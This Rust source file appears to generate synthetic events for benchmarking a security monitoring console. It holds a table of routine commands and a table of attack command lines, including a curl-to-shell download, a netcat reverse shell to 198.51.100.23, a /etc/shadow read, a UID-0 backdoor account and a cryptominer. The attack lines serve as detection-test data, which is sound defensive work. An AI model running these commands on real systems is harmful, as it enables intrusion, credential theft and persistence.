//! What the console benchmark's fleet does: everyday commands and file changes, and the
//! attacks that raise its alerts, as the agents' sensors would report them (encoded and
//! described as the controller stores them), from a deterministic generator.

use cordon_controller::store::{Finding, StoredEvent};
use cordon_detect::RuleIdentity;
use cordon_proto::{Event, FileEvent, ProcessEvent, event, file_event, process_event};
use prost::Message;

/// A small deterministic generator (xorshift64*): the same data on every run.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Self(seed | 1)
    }

    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
}

pub fn agent_id(i: usize) -> String {
    format!(
        "{:032x}",
        (i as u128 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15_f39c_c060_5ced_c835)
    )
}

/// Everyday commands (exe, argv with `{n}` replaced by a number), as a fleet runs them.
const COMMANDS: &[(&str, &str)] = &[
    ("/usr/bin/ls", "ls -la /var/log/app{n}"),
    (
        "/usr/bin/python3",
        "python3 /opt/app/worker.py --job {n} --queue default",
    ),
    ("/usr/bin/git", "git fetch origin refs/heads/release-{n}"),
    ("/usr/sbin/sshd", "sshd: deploy@pts/{n}"),
    (
        "/usr/bin/curl",
        "curl -s https://api.internal.example/health?probe={n}",
    ),
    ("/usr/bin/systemctl", "systemctl status nginx.service"),
    (
        "/bin/bash",
        "bash -c /usr/local/bin/backup.sh /srv/data/{n}",
    ),
    (
        "/usr/bin/tar",
        "tar czf /backup/db-{n}.tgz /var/lib/postgresql/15/main",
    ),
    (
        "/usr/bin/grep",
        "grep -r ERROR /var/log/app/service-{n}.log",
    ),
    ("/usr/bin/docker", "docker ps --filter label=team={n}"),
    ("/usr/bin/apt-get", "apt-get -q update"),
    ("/usr/bin/find", "find /tmp -mtime +{n} -delete"),
    ("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"),
    ("/usr/bin/node", "node /srv/web/server.js --port 80{n}"),
    ("/usr/bin/psql", "psql -U app -c vacuum analyze orders_{n}"),
    (
        "/usr/bin/rsync",
        "rsync -a /srv/data/ backup-{n}.internal.example:/srv/data/",
    ),
];

/// What an attacker runs: the events that raise the alerts, one per rule.
const ATTACKS: &[(&str, &str, &str)] = &[
    (
        "/bin/bash",
        "bash -c curl -s http://198.51.100.23/p.sh | sh",
        "Download piped to a shell",
    ),
    (
        "/usr/bin/nc",
        "nc -e /bin/sh 198.51.100.23 4444",
        "Reverse shell with netcat",
    ),
    (
        "/tmp/.x/xmrig",
        "xmrig -o pool.example.net:3333 --donate-level 1",
        "Cryptominer started",
    ),
    (
        "/usr/bin/base64",
        "base64 -d /tmp/.cache/blob",
        "Base64 decode of a hidden file",
    ),
    (
        "/usr/bin/chmod",
        "chmod +x /tmp/.x/kworker",
        "Executable bit set in /tmp",
    ),
    (
        "/usr/bin/crontab",
        "crontab /tmp/.x/cron",
        "Crontab replaced from /tmp",
    ),
    (
        "/usr/sbin/useradd",
        "useradd -o -u 0 backdoor",
        "UID 0 account created",
    ),
    ("/usr/bin/cat", "cat /etc/shadow", "Shadow file read"),
    (
        "/usr/bin/python3",
        "python3 -c import pty;pty.spawn('/bin/sh')",
        "PTY spawned from Python",
    ),
    (
        "/usr/bin/wget",
        "wget -q http://198.51.100.23/kworker -O /tmp/.x/kworker",
        "Download to /tmp",
    ),
];

/// The event of attack `rule` (one command per rule).
pub fn attack(rng: &mut Rng, rule: usize) -> event::Body {
    let (exe, argv, _) = ATTACKS[rule % ATTACKS.len()];
    process(rng, exe, argv, false)
}

const LEVELS: &[&str] = &["medium", "high", "critical", "low", "high"];

fn process(rng: &mut Rng, exe: &str, argv: &str, exit: bool) -> event::Body {
    let n = rng.below(1000).to_string();
    let pid = 1000 + rng.below(60_000) as u32;
    event::Body::Process(ProcessEvent {
        kind: if exit {
            process_event::Kind::Exit
        } else {
            process_event::Kind::Exec
        }
        .into(),
        pid,
        ppid: 1 + rng.below(pid as usize) as u32,
        exe: exe.into(),
        argv: argv
            .replace("{n}", &n)
            .split(' ')
            .map(str::to_string)
            .collect(),
        cwd: "/".into(),
        uid: if rng.below(3) == 0 { 0 } else { 1000 },
        user: if rng.below(3) == 0 { "root" } else { "deploy" }.into(),
        parent_exe: "/usr/lib/systemd/systemd".into(),
        exit_code: if rng.below(20) == 0 { 1 } else { 0 },
        lifetime_ms: rng.below(5000) as u64,
        ..Default::default()
    })
}

fn file(rng: &mut Rng) -> event::Body {
    const DIRS: &[&str] = &[
        "/var/log/app",
        "/etc/nginx/conf.d",
        "/home/deploy/.cache",
        "/srv/data/uploads",
    ];
    let kind = [
        file_event::Kind::Create,
        file_event::Kind::Modify,
        file_event::Kind::Delete,
    ][rng.below(3)];
    event::Body::File(FileEvent {
        kind: kind.into(),
        path: format!(
            "{}/{:05}.dat",
            DIRS[rng.below(DIRS.len())],
            rng.below(100_000)
        ),
        size: rng.below(1 << 20) as u64,
        sha256: format!(
            "{:016x}{:016x}{:016x}{:016x}",
            rng.next(),
            rng.next(),
            rng.next(),
            rng.next()
        ),
        ..Default::default()
    })
}

/// An everyday event: 45% exec, 25% exit, 30% file.
pub fn everyday(rng: &mut Rng) -> event::Body {
    let (exe, argv) = COMMANDS[rng.below(COMMANDS.len())];
    match rng.below(100) {
        0..45 => process(rng, exe, argv, false),
        45..70 => process(rng, exe, argv, true),
        _ => file(rng),
    }
}

pub fn stored(agent: usize, seq: u64, time_ms: i64, body: event::Body) -> StoredEvent {
    let e = Event {
        seq,
        time_ms,
        body: Some(body),
        ..Default::default()
    };
    let (kind, summary) = cordon_controller::core::describe(&e);
    StoredEvent {
        agent_id: agent_id(agent),
        seq,
        time_ms,
        kind: kind.into(),
        summary,
        body: e.encode_to_vec(),
        received_at_ms: time_ms + 150,
    }
}

pub fn finding(rule: usize) -> Finding {
    let (_, _, title) = ATTACKS[rule % ATTACKS.len()];
    Finding {
        rule: RuleIdentity {
            rule_id: format!("bench-{rule:03}"),
            title: title.into(),
            level: LEVELS[rule % LEVELS.len()].into(),
            tags: vec!["attack.execution".into()],
            author: "cordon-bench".into(),
        },
        source: "sigma".into(),
        detail: format!("matched rule bench-{rule:03}"),
    }
}
